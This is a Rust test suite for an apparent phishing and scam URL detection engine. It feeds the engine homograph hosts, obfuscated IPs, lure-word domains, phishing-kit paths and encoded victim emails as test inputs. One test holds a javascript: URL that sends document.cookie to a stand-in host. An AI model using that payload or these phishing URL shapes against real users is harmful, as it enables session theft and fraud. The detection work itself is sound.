//! Scam-pattern rules: each rule fires on a clear case and stays quiet on a near miss.
//! The rules section is compiled from the bundled `data/rules/*.tsv`, hosts and registrable
//! domains come from the real URL and PSL modules, so these tests see what the engine sees.
#![cfg(feature = "builder")]
#![allow(clippy::panic, clippy::unwrap_used)]

use std::sync::OnceLock;
use waspada_core::domain::{psl_section, to_unicode, Psl};
use waspada_core::format::{Envelope, EnvelopeWriter};
use waspada_core::rules::{self, RuleInput, Rules};
use waspada_core::Reason;

/// Normal sensitivity's thresholds.
const SUSPICIOUS: u8 = 40;
const DANGEROUS: u8 = 70;

#[test]
fn thresholds_are_the_scorers() {
    assert_eq!(
        waspada_core::score::thresholds(waspada_core::engine::Sensitivity::Normal),
        (SUSPICIOUS, DANGEROUS)
    );
}

struct Data {
    bytes: Vec<u8>,
}

fn data() -> &'static Data {
    static DATA: OnceLock<Data> = OnceLock::new();
    DATA.get_or_init(|| {
        let mut w = EnvelopeWriter::new("test", 20260101);
        let psl = psl_section(waspada_core::builder::BUNDLED_PSL).expect("psl");
        w.add_section(waspada_core::domain::PSL_TAG, psl);
        for (tag, body) in waspada_core::builder::rules::sections().expect("rules compile") {
            w.add_section(tag, body);
        }
        let (tag, body) = waspada_core::confusables::section().expect("confusables");
        w.add_section(tag, body);
        Data { bytes: w.finish() }
    })
}

/// The reasons the rules give for `input`.
fn check(input: &str) -> Vec<Reason> {
    check_with_brand(input, None)
}

/// The reasons the rules give for `input` when the lookalike check found `brand` (a brand's
/// official label) spelt out in its host.
fn check_with_brand(input: &str, brand: Option<&str>) -> Vec<Reason> {
    let bytes = &data().bytes;
    let env = Envelope::parse(bytes).expect("envelope");
    let rules = Rules::from_envelope(&env, bytes).expect("rules section");
    rules.validate().expect("rules valid");
    let psl_range = env
        .section(waspada_core::domain::PSL_TAG)
        .expect("psl section");
    let psl = Psl::new(&bytes[psl_range]).expect("psl view");
    let scheme = waspada_core::url::scheme_of(input).unwrap_or_else(|| "http".into());
    if scheme != "http" && scheme != "https" {
        return rules.evaluate_input(&RuleInput {
            input,
            scheme: &scheme,
            ..RuleInput::default()
        });
    }
    let canon = waspada_core::url::canonicalize(input).expect("canonical");
    let host = canon.host.as_str();
    let unicode = to_unicode(host);
    let input = RuleInput {
        input,
        scheme: &canon.scheme,
        host,
        host_unicode: &unicode,
        registrable_domain: psl.registrable_domain(host),
        public_suffix: psl.public_suffix(host),
        private_suffix: psl.is_private_suffix(host),
        brand_label: brand,
    };
    rules.evaluate_input(&input)
}

fn codes(input: &str) -> Vec<String> {
    check(input).into_iter().map(|r| r.code).collect()
}

fn has(input: &str, code: &str) -> bool {
    codes(input).iter().any(|c| c == code)
}

fn reason(input: &str, code: &str) -> Reason {
    check(input)
        .into_iter()
        .find(|r| r.code == code)
        .unwrap_or_else(|| panic!("{input}: no {code} in {:?}", codes(input)))
}

fn total(input: &str) -> u32 {
    check(input).iter().map(|r| u32::from(r.score)).sum()
}

fn quiet(input: &str) {
    let r = check(input);
    assert!(r.is_empty(), "{input}: expected no reason, got {r:?}");
}

#[test]
fn userinfo_disguised_as_a_domain() {
    let r = reason("https://bca.co.id@evil.top/", "url.userinfo");
    assert_eq!(r.params["userinfo"], "bca.co.id");
    assert_eq!(r.params["host"], "evil.top");
    assert!(
        r.score >= DANGEROUS,
        "a domain before @ alone is dangerous: {r:?}"
    );
    // Without a scheme, and with a password, it is the same trick.
    assert!(reason("klikbca.com:login@203.0.113.9/", "url.userinfo").score >= DANGEROUS);
    // Plain credentials are only a hint.
    let plain = reason("https://user:pw@example.com/", "url.userinfo");
    assert!(plain.score < SUSPICIOUS, "{plain:?}");
    // Near miss: an @ in the path is not userinfo.
    assert!(!has("https://medium.com/@someone/post", "url.userinfo"));
}

#[test]
fn ip_literal_in_every_notation() {
    let dotted = reason("http://203.0.113.7/login.php", "host.ip_literal");
    assert_eq!(dotted.params["notation"], "dotted");
    for obfuscated in [
        "http://3405803783/",
        "http://0xCB007107/",
        "http://0313.0.0161.07/",
        "http://203.28935/",
        "http://0xcb.0x00.0x71.0x07/",
    ] {
        let r = reason(obfuscated, "host.ip_literal");
        assert_eq!(r.params["notation"], "obfuscated", "{obfuscated}");
        assert_eq!(r.params["ip"], "203.0.113.7", "{obfuscated}");
        assert!(r.score > dotted.score);
    }
    assert_eq!(
        reason("http://[2001:db8::1]/", "host.ip_literal").params["notation"],
        "ipv6"
    );
    // Near misses: the router at home and local development are not scams.
    quiet("http://192.168.1.1/");
    quiet("http://127.0.0.1:8080/");
    quiet("http://[::1]/");
    assert!(!has("https://1.2.3.example.com/", "host.ip_literal"));
}

#[test]
fn scripts_in_internationalised_hosts() {
    // Latin with Cyrillic "а" in one label.
    let r = reason("https://p\u{0430}ypal.com/", "host.mixed_script");
    assert_eq!(r.params["level"], "mixed_script");
    // A technical letter no language writes domains in (U+0261 LATIN SMALL LETTER SCRIPT G).
    assert!(has("https://\u{0261}oogle.com/", "host.restricted_chars"));
    // A label wholly in Cyrillic letters that pass for Latin ones, under an ASCII TLD.
    let whole = reason(
        "https://\u{0430}\u{0440}\u{0440}\u{04cf}\u{0435}.com/",
        "host.mixed_script",
    );
    assert_eq!(whole.params["level"], "whole_script");
    // Near miss: a Russian word that does not read as Latin.
    assert!(!has(
        "https://\u{043f}\u{0440}\u{0438}\u{043c}\u{0435}\u{0440}.com/",
        "host.mixed_script"
    ));
    // Accented Latin is ordinary, under .com too (Chromium shows šachy.com and ést.net): whether
    // it imitates a protected site is the lookalike check's question, not the rules'.
    assert!(reason("https://\u{0161}achy.com/", "host.punycode").score < 15);
    assert!(reason("https://m\u{00fc}ller.de/", "host.punycode").score < 15);
    // ... but a small capital is outside the allowed set (hardᴡare.com).
    assert!(has("https://hard\u{1d21}are.com/", "host.restricted_chars"));
    // Chromium's special cases: digit lookalikes, a Thai tone mark repeated, the Japanese
    // prolonged-sound mark after Han; and their near misses.
    assert_eq!(
        reason("https://xn--1-xcc.com/", "host.mixed_script").params["level"],
        "digit_lookalike"
    );
    assert_eq!(
        reason("https://xn--03c0b3ca.th/", "host.mixed_script").params["level"],
        "invisible"
    );
    assert_eq!(
        reason("https://xn--wekz60nb2ay85atj0b.jp/", "host.mixed_script").params["level"],
        "dangerous_pattern"
    );
    assert!(!has("https://xn--lck0ip02qw5ya.jp/", "host.mixed_script"));
    assert!(!has("https://xn--12c2cc4ag3b4ccu.th/", "host.mixed_script"));
    // A Cyrillic whole-script confusable is ordinary under .ru (Chromium's rule per TLD).
    assert!(!has("https://xn--e1argc3h.ru/", "host.mixed_script"));
    assert!(has("https://xn--e1argc3h.com/", "host.mixed_script"));
    // Single-script IDNs are only a small hint; a Japanese name mixing Han and Kana is normal.
    assert!(reason("https://m\u{00fc}nchen.de/", "host.punycode").score < 15);
    let jp = check("https://\u{65e5}\u{672c}\u{8a9e}\u{306e}\u{30b5}\u{30a4}\u{30c8}.jp/");
    assert!(jp.iter().all(|r| r.code == "host.punycode"), "{jp:?}");
    quiet("https://example.com/");
}

#[test]
fn abused_tlds_add_points_but_never_flag_alone() {
    let r = reason("https://some-shop.top/", "tld.abused");
    assert_eq!(r.params["tld"], "top");
    assert!(r.score > 0 && r.score < SUSPICIOUS);
    assert!(has("https://toko-murah.my.id/", "tld.abused"));
    quiet("https://tokopedia.com/");
    // A private suffix under .app is not the .app TLD's fault, nor is `top` as a label.
    assert!(!has("https://top.example.com/", "tld.abused"));
}

#[test]
fn shorteners_hide_the_destination() {
    assert_eq!(
        reason("https://bit.ly/3xYz", "url.shortener").params["shortener"],
        "bit.ly"
    );
    assert!(has("s.id/bansos2024", "url.shortener"));
    // The shortener's home page hides nothing.
    assert!(!has("https://bit.ly/", "url.shortener"));
    assert!(!has("https://bitly.example.com/3xYz", "url.shortener"));
}

#[test]
fn free_hosting_subdomains() {
    let r = reason("https://mybakery.pages.dev/", "hosting.free");
    assert_eq!(r.params["suffix"], "pages.dev");
    assert!(r.score < SUSPICIOUS, "hosting alone never flags: {r:?}");
    assert!(!r.params.contains_key("with"));
    // Carrying lure words, it adds up.
    assert!(total("https://pendaftaran-bansos.vercel.app/") >= u32::from(SUSPICIOUS));
    // Site builders outside the PSL count too, and the user's label is what the shape rules read.
    assert_eq!(
        reason("https://att-service-104599.weeblysite.com/", "hosting.free").params["suffix"],
        "weeblysite.com"
    );
    assert!(has(
        "https://att-service-104599.weeblysite.com/",
        "host.many_digits"
    ));
    // The hosting provider's own site is not a user's page.
    assert!(!has("https://pages.dev/", "hosting.free"));
    assert!(!has("https://www.weebly.com/", "hosting.free"));
    assert!(!has("https://vercel.com/docs", "hosting.free"));
}

#[test]
fn machine_made_labels() {
    assert_eq!(
        reason(
            "http://pub-89157d5a54f345cd9b410792401cf316.r2.dev/",
            "host.random_label"
        )
        .params["kind"],
        "hex"
    );
    assert!(has(
        "http://klrnegpnzggmudn7r.pages.dev/",
        "host.random_label"
    ));
    // Words, names and brands have vowels.
    for u in [
        "https://tokopedia.com/",
        "https://strengthsfinder.com/",
        "https://nightshift.example.com/",
        "https://bukalapak.com/",
    ] {
        assert!(!has(u, "host.random_label"), "{u}");
    }
}

#[test]
fn executable_downloads() {
    let r = reason(
        "https://files.example.net/Undangan%20Pernikahan%20Digital.apk",
        "download.executable",
    );
    assert_eq!(r.params["ext"], "apk");
    assert_eq!(r.params["file"], "Undangan Pernikahan Digital.apk");
    // The lure words in the file name add to it, and make the download itself worse.
    assert_eq!(r.params["lure"], "yes");
    assert!(reason("https://files.example.net/app.apk", "download.executable").score < r.score);
    assert!(has(
        "https://files.example.net/Undangan%20Pernikahan%20Digital.apk",
        "keyword.lure"
    ));
    assert!(has(
        "http://203.0.113.5/Surat-Tilang.APK?x=1",
        "download.executable"
    ));
    let scr = reason("https://example.net/photo.scr", "download.executable");
    assert!(
        scr.score > r.score,
        "a screensaver download is worse than an apk"
    );
    assert!(has("https://example.net/setup.exe", "download.executable"));
    // Near misses: a page about APKs, an .apk in the query, a domain as the last path segment.
    quiet("https://example.net/apk-guide");
    quiet("https://example.net/download?file=readme.txt");
    assert!(!has(
        "https://example.net/go/example.com",
        "download.executable"
    ));
    assert!(!has(
        "https://example.net/blog/my.apkblog",
        "download.executable"
    ));
}

#[test]
fn piles_of_subdomains_hyphens_and_digits() {
    let deep = reason(
        "https://login.secure.account.update.verify.bank.example.com/",
        "host.many_subdomains",
    );
    assert_eq!(deep.params["count"], "6");
    assert!(!has(
        "https://www.mail.example.co.uk/",
        "host.many_subdomains"
    ));
    let h = reason(
        "https://bca-konfirmasi-tarif-baru-2024.com/",
        "host.many_hyphens",
    );
    assert_eq!(h.params["count"], "4");
    assert!(!has("https://my-little-pony.com/", "host.many_hyphens"));
    assert!(has("https://8724319-coinbase.com/", "host.many_digits"));
    // Near misses: a year or a short number in a name.
    assert!(!has("https://pemilu2024.com/", "host.many_digits"));
    assert!(!has("https://web3.com/", "host.many_digits"));
}

#[test]
fn odd_ports() {
    assert_eq!(
        reason("http://example.com:2083/login", "url.odd_port").params["port"],
        "2083"
    );
    quiet("https://example.com:443/");
    quiet("http://example.com:8080/");
}

#[test]
fn lure_words_respect_word_boundaries() {
    let r = reason("https://cek-bansos-kemensos.com/", "keyword.lure");
    assert!(r.params["keywords"].contains("bansos"));
    assert_eq!(r.params["where"], "host");
    assert!(
        reason("https://example.com/verifikasi/akun", "keyword.lure").params["where"] == "path"
    );
    // Two or more lure words stacked in one host count extra.
    let one = reason("https://hadiah.example.com/", "keyword.lure").score;
    let two = reason("https://claim-hadiah.example.com/", "keyword.lure").score;
    assert!(two > one + 12, "{one} -> {two}");
    // English kit words.
    assert!(has(
        "https://secure-login-update.example.net/",
        "keyword.lure"
    ));
    // Near misses: `login` inside another word, `resi` inside `residence`, `secure` inside `insecure`.
    assert!(!has("https://bloginfo.example.com/", "keyword.lure"));
    assert!(!has("https://residence.example.com/", "keyword.lure"));
    assert!(!has("https://insecureweb.example.com/", "keyword.lure"));
    // The public suffix is not part of the words (`.co.id` never matches anything).
    quiet("https://bisnis.co.id/");
}

#[test]
fn gambling_words_respect_word_boundaries() {
    let r = reason("https://slotgacor88.com/", "keyword.gambling");
    assert_eq!(r.params["category"], "gambling");
    assert!(
        r.score >= SUSPICIOUS,
        "an unmistakable gambling host is flagged: {r:?}"
    );
    for host in [
        "https://togelhoki.net/",
        "https://agenjudibola.info/",
        "https://bet365-id.com/",
        "https://jendelatoto.pics/",
    ] {
        assert!(has(host, "keyword.gambling"), "{host}");
    }
    // Near misses: sloth, alphabet, better, judicial, Judith, a toto inside another word.
    for host in [
        "https://slothsanctuary.org/",
        "https://alphabet.com/",
        "https://betterhelp.com/",
        "https://judicial.example.gov/",
        "https://judith-smith.com/",
        "https://phototours.example/",
    ] {
        assert!(!has(host, "keyword.gambling"), "{host}: {:?}", check(host));
    }
    // A gambling page injected into a path counts too, for less.
    let p = reason(
        "https://dinas.example.go.id/wp-content/slot-gacor-maxwin/",
        "keyword.gambling",
    );
    assert_eq!(p.params["where"], "path");
}

#[test]
fn compound_gambling_names_chain_words() {
    // No separators: agen|bola|terpercaya, agen|taruhan; each word leans on its neighbour.
    let r = reason("https://agenbolaterpercaya.com/", "keyword.gambling");
    assert!(r.score >= SUSPICIOUS, "{r:?}");
    assert!(has("https://agentaruhanonline.com/", "keyword.gambling"));
    // A word inside a longer keyword counts once: bet in betting.
    let b = reason("https://betting.example.com/", "keyword.gambling");
    assert_eq!(b.params["keywords"], "betting");
    // A word buried in an ordinary word with no keyword next to it stays quiet.
    assert!(!has("https://carabolanda.example/", "keyword.gambling"));
}

#[test]
fn data_and_javascript_navigations() {
    let d = reason("data:text/html;base64,PHNjcmlwdD4=", "scheme.data");
    assert_eq!(d.params["mime"], "text/html");
    assert!(d.score >= DANGEROUS);
    let img = reason("data:image/png;base64,iVBORw0KGgo=", "scheme.data");
    assert!(img.score < SUSPICIOUS);
    assert!(
        reason(
            "javascript:fetch('//x.top/'+document.cookie)",
            "scheme.javascript"
        )
        .score
            >= 60
    );
    // Other schemes are not the rules' business.
    quiet("mailto:someone@example.com");
}

#[test]
fn ordinary_sites_are_quiet() {
    for u in [
        "https://www.google.com/search?q=cuaca",
        "https://www.bca.co.id/id/individu",
        "https://www.tokopedia.com/",
        "https://id.wikipedia.org/wiki/Indonesia",
        "https://github.com/rust-lang/rust",
        "https://www.kemensos.go.id/",
    ] {
        quiet(u);
    }
}

#[test]
fn every_weight_and_table_is_compiled() {
    let bytes = &data().bytes;
    let env = Envelope::parse(bytes).unwrap();
    let rules = Rules::from_envelope(&env, bytes).unwrap();
    let [weights, tlds, shorteners, hosting, keywords] = rules.counts();
    assert_eq!(weights, rules::WEIGHT_KEYS.len());
    assert!(tlds > 40 && shorteners > 1000 && hosting > 3000 && keywords > 80);
    assert!(rules.is_shortener("bit.ly"));
    assert_eq!(
        rules.hosting_points("pages.dev"),
        Some(rules.weight("hosting.free_max"))
    );
}

#[test]
fn corrupt_sections_are_typed_errors() {
    let bytes = &data().bytes;
    let env = Envelope::parse(bytes).unwrap();
    let range = env.section(rules::RULES_TAG).unwrap();
    let section = &bytes[range];
    // Every truncation is refused or, if it still parses, validates or fails cleanly; never panics.
    for n in (0..section.len()).step_by(97) {
        if let Ok(r) = Rules::from_section(&section[..n]) {
            let _ = r.validate();
        }
    }
    let mut bad = section.to_vec();
    bad[0] = 9;
    assert!(Rules::from_section(&bad).is_err());
    // Flipped bytes anywhere: errors or reasons, no panic.
    for i in (0..section.len()).step_by(211) {
        let mut b = section.to_vec();
        b[i] ^= 0x5a;
        if let Ok(r) = Rules::from_section(&b) {
            let _ = r.validate();
            let _ = r.evaluate_input(&RuleInput {
                input: "https://slot-login.top:81/a.apk",
                scheme: "https",
                host: "slot-login.top",
                host_unicode: "slot-login.top",
                registrable_domain: Some("slot-login.top"),
                public_suffix: Some("top"),
                private_suffix: false,
                brand_label: None,
            });
        }
    }
    // A build with a broken data line names the file and line.
    let err = waspada_core::builder::rules::sections_from_texts(
        &waspada_core::builder::rules::RuleTexts {
            weights: "url.userinfo\tmany\n",
            abused_tlds: "",
            url_shorteners: "",
            hosting_suffixes: "",
            hosting_extra: "",
            keywords: "",
        },
    )
    .unwrap_err();
    assert!(err.contains("weights.tsv:1"), "{err}");
}

#[test]
fn free_hosting_with_a_second_hint() {
    // Alone, a user's page stays below; with one more hint it is suspicious, and says which.
    assert!(total("https://mybakery.pages.dev/") < u32::from(SUSPICIOUS));
    let r = reason("https://cou11.vercel.app/", "hosting.free");
    assert_eq!(r.params["with"], "digits");
    assert!(total("https://cou11.vercel.app/") >= u32::from(SUSPICIOUS));
    assert_eq!(
        reason("https://en-webfix.pages.dev/", "hosting.free").params["with"],
        "hyphen"
    );
    let r = reason("https://telstra-109517.weeblysite.com/", "hosting.free");
    assert_eq!(r.params["with"], "host.many_digits");
    assert!(total("https://telstra-109517.weeblysite.com/") >= u32::from(SUSPICIOUS));
    // Digits elsewhere in the host are not the user's label.
    assert!(
        !reason("https://mybakery.eu-2.example.pages.dev/", "hosting.free")
            .params
            .contains_key("with")
    );
    // A platform with fewer known phishing pages gets no bonus: an ordinary blog stays quiet.
    assert!(total("https://resep-nenek.blogspot.com/") < u32::from(SUSPICIOUS));
    // Not on a hosting platform: nothing to combine.
    assert!(!has("https://cou11.com/", "hosting.free"));
}

#[test]
fn ipfs_gateway_pages() {
    let cid0 = "QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG";
    let cid1 = "bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi";
    let r = reason(
        &format!("https://ipfs.io/ipfs/{cid0}/login.html"),
        "hosting.ipfs",
    );
    assert_eq!(r.params["cid"], cid0);
    assert_eq!(r.params["gateway"], "ipfs.io");
    assert!(r.score >= SUSPICIOUS && r.score < DANGEROUS, "{r:?}");
    // Subdomain gateways put the CID in the host.
    let r = reason(&format!("https://{cid1}.ipfs.dweb.link/"), "hosting.ipfs");
    assert_eq!(r.params["cid"], cid1);
    assert_eq!(r.params["gateway"], "dweb.link");
    // The gateway being a hosting platform is not counted a second time.
    assert!(!has(
        &format!("https://{cid1}.ipfs.dweb.link/"),
        "hosting.free"
    ));
    // Any host serving /ipfs/<CID> is a gateway.
    assert!(has(
        &format!("https://ipfs.eth.aragon.network/ipfs/{cid1}/"),
        "hosting.ipfs"
    ));
    // Near misses: the gateway's home page, an ipfs folder without a CID, a CID-like word.
    quiet("https://ipfs.io/");
    assert!(!has(
        "https://docs.ipfs.tech/ipfs/concepts/",
        "hosting.ipfs"
    ));
    assert!(!has("https://example.com/ipfs/QmShort", "hosting.ipfs"));
    assert!(!has("https://example.com/blog/ipfs-guide", "hosting.ipfs"));
}

#[test]
fn abused_tld_with_campaign_subdomains() {
    // A per-campaign subdomain (digits or a hyphen) on a cheap abused domain is suspicious.
    let r = reason("https://videoviral27.utpkh.my.id/", "tld.abused");
    assert_eq!(r.params["with"], "subdomain");
    assert!(total("https://videoviral27.utpkh.my.id/") >= u32::from(SUSPICIOUS));
    assert!(total("https://dan4-tm1.com-red.top/") >= u32::from(SUSPICIOUS));
    // Near misses: the bare domain, a site's own service subdomain, www, digits in the
    // registrable label, and a low-points TLD with large legitimate use.
    for quiet_url in [
        "https://utpkh.my.id/",
        "https://blog.utpkh.my.id/",
        "https://www.utpkh.my.id/",
        "https://shop-24.top/",
        "https://api-2.example.ru/",
    ] {
        assert!(
            !reason(quiet_url, "tld.abused").params.contains_key("with"),
            "{quiet_url}"
        );
        assert!(total(quiet_url) < u32::from(SUSPICIOUS), "{quiet_url}");
    }
}

#[test]
fn phishing_kit_pages_in_system_folders() {
    for (url, folder) in [
        (
            "https://bwgforums.net/wp-includes/css/dist/parks/acp.php",
            "wp-includes",
        ),
        (
            "https://ladiesstudio.pk/wp-admin/css/sd/wc/infospage.php",
            "wp-admin",
        ),
        (
            "http://compbiz.co.il/wp-content/themes/pridmag/company/index.php",
            "wp-content",
        ),
        (
            "http://onekw.example.com/.well-known/acme-challenge/5797/Login.html",
            ".well-known",
        ),
        (
            "https://example.com/wp-includes/js/app/login/",
            "wp-includes",
        ),
        (
            "http://benopbenop-fab1fa.ingress-baronn.ewp.live/wp-content/plugins/esidemworld/pages/region.php",
            "wp-content/plugins",
        ),
        (
            "http://avisnotarieenvotrefaveur-5d07c2.ingress-earth.ewp.live/wp-content/plugins/akismet/portail-pro/",
            "wp-content/plugins",
        ),
    ] {
        let r = reason(url, "url.kit_path");
        assert_eq!(r.params["folder"], folder, "{url}");
        assert!(total(url) >= u32::from(SUSPICIOUS), "{url}");
    }
    // Near misses: files and assets, admin pages, plugin endpoints, shallow pages, ACME tokens.
    for url in [
        "https://example.com/wp-content/uploads/2024/05/brochure.pdf",
        "https://example.com/wp-includes/js/jquery/jquery.min.js",
        "https://example.com/wp-admin/post.php?post=12&action=edit",
        "https://example.com/wp-admin/network/sites.php",
        "https://example.com/wp-content/plugins/download-monitor/download.php?id=3",
        "https://example.com/wp-content/plugins/adrotate/adrotate-out.php?track=MTIzNA",
        "https://example.com/wp-content/plugins/contact-form-7/includes/js/index.js",
        "https://example.com/wp-includes/ms-files.php?file=a.jpg",
        "https://example.com/.well-known/acme-challenge/Xy12abc",
        "https://example.com/.well-known/security.txt",
        "https://example.com/blog/wp-guide/index.html",
    ] {
        assert!(!has(url, "url.kit_path"), "{url}");
    }
}

#[test]
fn words_inside_the_brand_label_are_the_name_not_lures() {
    let codes_of = |url: &str, brand: Option<&str>| -> Vec<String> {
        check_with_brand(url, brand)
            .into_iter()
            .filter(|r| r.score > 0)
            .map(|r| r.code)
            .collect()
    };
    // WalletConnect's own walletconnect.org and the sports site bola.com (a swap of bola.net):
    // the lure word `walletconnect` and the gambling word `bola` are the brand's name there.
    assert!(codes_of("walletconnect.org", None).contains(&"keyword.lure".to_string()));
    assert!(codes_of("walletconnect.org", Some("walletconnect")).is_empty());
    assert!(codes_of("bola.com", None).contains(&"keyword.gambling".to_string()));
    assert!(codes_of("bola.com", Some("bola")).is_empty());
    // Words outside the name still count (a real phishing URL on a WalletConnect swap).
    let r = check_with_brand(
        "https://walletconnect.network/blog/airdrop-eligibility-check",
        Some("walletconnect"),
    );
    let lure = r.iter().find(|r| r.code == "keyword.lure").expect("lure");
    assert_eq!(lure.params["keywords"], "airdrop");
}

#[test]
fn combinations_never_make_a_page_dangerous() {
    // A platform-chosen random bucket name already has its points: nothing is added.
    let url = "https://pub-0001f7c112074f63a483d2423fdd5ab9.r2.dev/";
    assert!(!reason(url, "hosting.free").params.contains_key("with"));
    assert!(total(url) < u32::from(DANGEROUS));
    // Stacked hints on a throwaway page stay suspicious, not dangerous.
    for url in [
        "https://x7-k9q-m2.pages.dev/",
        "https://telstra-109517.weeblysite.com/",
        "https://a1-b2.c3-d4.utpkh.my.id/",
    ] {
        let t = total(url);
        assert!(
            t >= u32::from(SUSPICIOUS) && t < u32::from(DANGEROUS),
            "{url}: {t}"
        );
    }
}

#[test]
fn an_email_address_coded_into_the_link_is_suspicious() {
    // Base64 of the victim's address in a path segment, a query value or the fragment.
    for (url, place) in [
        (
            "https://example.com/cgibin/bin/athani/YXRoYW5pQHFpYS5xYQ==",
            "path",
        ),
        (
            "https://example.com/cc/?pop=aXJpc0Bub3JkZ2Vhci5jbg==",
            "query",
        ),
        (
            "https://example.com/index.php#eWFob29AeWFob28uY29t",
            "fragment",
        ),
        // URL-safe alphabet, no padding.
        (
            "https://example.net/x/am9obi5kb2VAZXhhbXBsZS5jby51aw",
            "path",
        ),
    ] {
        let r = reason(url, "url.email");
        assert_eq!(r.params.get("encoding").map(String::as_str), Some("base64"));
        assert_eq!(
            r.params.get("where").map(String::as_str),
            Some(place),
            "{url}"
        );
        assert!(total(url) >= u32::from(SUSPICIOUS), "{url}");
        // The address itself is not echoed into the verdict.
        assert!(!format!("{r:?}").contains('@'), "{r:?}");
    }
    // A plain address is only a hint.
    let url = "https://example.org/wp/index.php?email=a@a.com";
    let r = reason(url, "url.email");
    assert_eq!(r.params.get("encoding").map(String::as_str), Some("none"));
    assert!(total(url) < u32::from(SUSPICIOUS));
    assert!(has(
        "https://example.org/?e=maziaa%40onet.eu&s=1",
        "url.email"
    ));
    // Base64 that is not an address, ids and tokens, and an `@` that is not an address.
    for url in [
        "https://example.com/watch?v=dQw4w9WgXcQ",
        "https://example.com/a/aGVsbG8gd29ybGQgdGhpcyBpcyB0ZXh0",
        "https://example.com/s/0123456789abcdefABCDEF",
        "https://example.com/@someone/posts",
        "https://example.com/profile/@user.name",
        "https://example.com/?q=a@b",
    ] {
        assert!(!has(url, "url.email"), "{url}");
    }
}

#[test]
fn staging_addresses_are_suspicious_alone_but_not_dangerous() {
    for url in [
        "https://coinbase-help.webflow.io/",
        "https://quiet-sound-1234.workers.dev/",
        "https://abc.def.mybluehost.me/",
        "https://dev-mysite.pantheonsite.io/",
        "https://abc.myftpupload.com/",
        "http://203.0.113.7.nip.io/",
    ] {
        let t = total(url);
        assert!(
            t >= u32::from(SUSPICIOUS) && t < u32::from(DANGEROUS),
            "{url}: {t}"
        );
    }
    // The reason says it is a staging address (the extension explains it in its own words).
    let r = reason("https://quiet-sound-1234.workers.dev/", "hosting.free");
    assert_eq!(r.params.get("kind").map(String::as_str), Some("staging"));
    assert!(!reason("https://portfolio.github.io/", "hosting.free")
        .params
        .contains_key("kind"));
    // The platforms' own sites and an ordinary free page are not.
    for url in ["https://webflow.io/", "https://www.webflow.io/"] {
        assert!(total(url) < u32::from(SUSPICIOUS), "{url}");
    }
    assert!(total("https://portfolio.github.io/") < u32::from(SUSPICIOUS));
}

#[test]
fn any_subdomain_under_the_worst_tlds_is_a_second_hint() {
    for url in [
        "http://usgo.zgxhij.top/",
        "https://page.appealdisable.my.id/",
    ] {
        let t = total(url);
        assert!(
            t >= u32::from(SUSPICIOUS) && t < u32::from(DANGEROUS),
            "{url}: {t}"
        );
        assert_eq!(
            reason(url, "tld.abused")
                .params
                .get("with")
                .map(String::as_str),
            Some("subdomain")
        );
    }
    // `www` and a site's own service names, the bare domain, and TLDs with a large legitimate
    // share (.xyz, .shop) are not.
    for url in [
        "http://www.zgxhij.top/",
        "https://blog.budi.my.id/",
        "https://mail.zgxhij.top/",
        "http://zgxhij.top/",
        "https://shop.example.xyz/",
        "https://blog.example.shop/",
    ] {
        assert!(total(url) < u32::from(SUSPICIOUS), "{url}");
    }
}

#[test]
fn blog_hosts_gain_the_combination_only_for_a_lure_word() {
    for url in [
        "http://aolmaiillogin.blogspot.qa/",
        "https://copyrights-violations.surge.sh/",
    ] {
        let r = reason(url, "hosting.free");
        assert_eq!(
            r.params.get("with").map(String::as_str),
            Some("keyword.lure")
        );
        let t = total(url);
        assert!(
            t >= u32::from(SUSPICIOUS) && t < u32::from(DANGEROUS),
            "{url}: {t}"
        );
    }
    // A hyphen or digits in a blogger's name are not a hint there.
    for url in [
        "https://my-travel-notes.blogspot.com/",
        "https://budi2024.blogspot.com/",
    ] {
        assert!(total(url) < u32::from(SUSPICIOUS), "{url}");
    }
}
